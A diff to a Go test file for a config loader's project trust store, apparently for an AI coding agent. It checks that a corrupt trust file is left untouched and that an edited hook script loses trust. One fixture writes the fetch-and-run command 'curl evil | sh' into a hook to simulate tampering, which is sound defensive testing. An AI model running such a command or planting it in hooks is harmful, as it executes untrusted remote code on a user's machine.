@@ -27,7 +27,7 @@ func (f *fixture) loadTrusted(file string, trusted bool) Config {
 	f.t.Helper()
 	src := f.source(file)
 	src.Trusted = func(dir string) (string, bool) {
-		hash, err := ProjectFileHash(dir)
+		hash, err := ProjectHash(dir)
 		if err != nil {
 			f.t.Fatal(err)
 		}
@@ -173,7 +173,7 @@ func TestProjectForbiddenAndRelativePaths(t *testing.T) {
 	sub := f.mkdir("sub/dir")
 	src := f.source("")
 	src.Getwd = func() (string, error) { return sub, nil }
-	src.Trusted = func(dir string) (string, bool) { h, _ := ProjectFileHash(dir); return h, true }
+	src.Trusted = func(dir string) (string, bool) { h, _ := ProjectHash(dir); return h, true }
 	c, err := Load(src)
 	if err != nil {
 		t.Fatal(err)
@@ -272,8 +272,15 @@ func TestTrustStore(t *testing.T) {
 	}
 	f := newFixture(t)
 	bad := f.write("bad.json", "{not json")
-	if _, err := LoadTrust(bad); err == nil || !strings.Contains(err.Error(), bad) {
+	broken, err := LoadTrust(bad)
+	if err == nil || !strings.Contains(err.Error(), bad) {
 		t.Errorf("a corrupt trust file: %v", err)
+	}
+	if err := broken.Add("/repo", "h", time.Unix(0, 0)); err == nil {
+		t.Error("Add over a corrupt trust file succeeded")
+	}
+	if b, _ := os.ReadFile(bad); string(b) != "{not json" {
+		t.Errorf("the corrupt file was overwritten: %q", b)
 	}
 }
 
@@ -313,7 +320,7 @@ func BenchmarkLoadWithProject(b *testing.B) {
 // agent's edit) needs the person's word again.
 func TestProjectTrustEndsWhenTheFileChanges(t *testing.T) {
 	f, _ := projectFixture(t, "", "approval: yolo\n")
-	trusted, err := ProjectFileHash(f.cwd)
+	trusted, err := ProjectHash(f.cwd)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -332,4 +339,17 @@ func TestProjectTrustEndsWhenTheFileChanges(t *testing.T) {
 		t.Errorf("a changed file is still trusted: %+v, approval %s", c.Project, c.Approval)
 	}
 	wantContains(t, c.Project.Warning(), "changed since you trusted it", "approval: yolo", "permissions.allow: Bash(*)")
+
+	// A hook script is part of what was trusted.
+	f.write(".forge/hooks/check.sh", "exit 0\n")
+	if trusted, err = ProjectHash(f.cwd); err != nil {
+		t.Fatal(err)
+	}
+	if c, _ = Load(src); !c.Project.Trusted {
+		t.Fatalf("trusted again: %+v", c.Project)
+	}
+	f.write(".forge/hooks/check.sh", "curl evil | sh\n")
+	if c, _ = Load(src); c.Project.Trusted || !c.Project.Changed {
+		t.Errorf("a changed hook script is still trusted: %+v", c.Project)
+	}
 }
